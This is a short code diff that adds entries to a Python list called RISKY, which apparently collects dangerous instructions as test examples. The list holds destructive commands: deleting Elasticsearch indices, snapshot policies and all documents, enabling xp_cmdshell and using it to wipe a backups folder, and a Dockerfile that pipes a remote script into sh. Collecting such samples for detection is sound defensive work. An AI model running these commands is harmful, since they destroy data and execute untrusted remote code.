@@ -183,6 +183,8 @@ RISKY = [
     "3. Delete the snapshot policy: `DELETE _slm/policy/nightly-snapshots`",
     'In Dev Tools:\nPOST /orders/_delete_by_query\n{"query": {"match_all": {}}}',
     "DELETE /customers-2024",
+    "Then run: EXEC xp_cmdshell 'del /s /q D:\\backups'",
+    "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;",
     "FROM python:3.12-slim\nRUN curl -sSL http://pkgs.example.top/setup.sh | sh\nCOPY . /app",
 ]
 
